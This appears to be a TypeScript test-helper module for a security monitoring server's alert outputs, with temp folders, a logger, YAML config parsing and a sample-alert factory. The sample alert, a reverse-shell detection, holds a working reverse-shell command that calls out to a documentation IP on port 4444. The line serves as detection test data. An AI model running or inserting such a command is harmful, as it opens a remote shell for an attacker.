/**
 * What the alert outputs' tests share: temporary folders, a log sink, the outputs made from a
 * YAML snippet the way the server mounts it (each closed by closeAll), and alerts to send.
 */
import assert from 'node:assert/strict';
import { Type } from '@sinclair/typebox';
import { AlertOutputsConfig } from '../../src/common/config/alert-outputs.js';
import { parseConfig } from '../../src/common/config/index.js';
import { Logger } from '../../src/runtime/log.js';
import { createAlertOutputs, type AlertOutputs, type OutputStats } from '../../src/server/alerts/outputs/index.js';
import type { Alert } from '../../src/server/alerts/types.js';
import { waitFor as waitUntil } from './agent.js';
import { cleanupTempDirs, LogSink, tempDir as serverTempDir } from './server.js';

export { LogSink };

/** A temporary folder, removed by closeAll. */
export const tempDir = (): string => serverTempDir('hades-alert-outputs-');

export const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** The helpers' waitFor, looking every 10 ms for at most 5 s unless told. */
export const waitFor = <T>(what: string, check: () => T | undefined | false, timeoutMs = 5000): Promise<T> => waitUntil(what, check, timeoutMs, 10);

export function logger(sink = new LogSink()): Logger {
  return Logger.fromConfig({ level: 'debug', file: null, max_mb: 16, max_files: 1 }, { stream: sink, bytesPerSecond: 0 });
}

/** The schema as the server mounts it: `alerts.outputs`. */
export const Wrapper = Type.Object(
  { alerts: Type.Object({ outputs: AlertOutputsConfig }, { additionalProperties: false, default: {} }) },
  { additionalProperties: false },
);

export function outputsConfig(yaml: string): AlertOutputsConfig {
  const result = parseConfig(yaml, Wrapper);
  if (!result.ok) assert.fail(JSON.stringify(result.problems));
  return result.config.alerts.outputs;
}

let alertSeq = 0;
export function makeAlert(overrides: Partial<Alert> & { severity?: Alert['rule']['severity'] } = {}): Alert {
  const { severity, ...rest } = overrides;
  const n = ++alertSeq;
  return {
    id: `3f6c1d2e-0000-4000-8000-${String(n).padStart(12, '0')}`,
    '@timestamp': '2026-11-28T08:00:00.123Z',
    last_seen: '2026-11-28T08:00:01.000Z',
    count: 1,
    rule: { id: 'hades.reverse_shell', title: 'Reverse shell', severity: severity ?? 'critical', tags: ['attack.t1059.004'], type: 'rule' },
    message: 'bash connected its stdio to 203.0.113.7:4444',
    host: { id: 'ag_0123456789abcdef', name: 'web-01' },
    events: [{ event: { action: 'exec' }, process: { pid: 4242 } }],
    process: { pid: 4242, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
    status: 'new',
    ...rest,
  };
}

export const quick = { max_attempts: 5, backoff_ms: 10, backoff_max_ms: 40 };
export const retryYaml = `retry: { max_attempts: ${quick.max_attempts}, backoff_ms: ${quick.backoff_ms}, backoff_max_ms: ${quick.backoff_max_ms} }`;

const open: AlertOutputs[] = [];
export function create(yaml: string, log = logger()): AlertOutputs {
  const outputs = createAlertOutputs(outputsConfig(yaml), log, { hostname: 'hades-test', random: () => 0.5 });
  open.push(outputs);
  return outputs;
}
export const statsOf = (outputs: AlertOutputs, name: string): OutputStats => outputs.stats().find((s) => s.name === name)!;

/** Closes every output made by create() and removes every folder made by tempDir(). */
export async function closeAll(): Promise<void> {
  for (const outputs of open.splice(0)) await outputs.close(100);
  cleanupTempDirs();
}
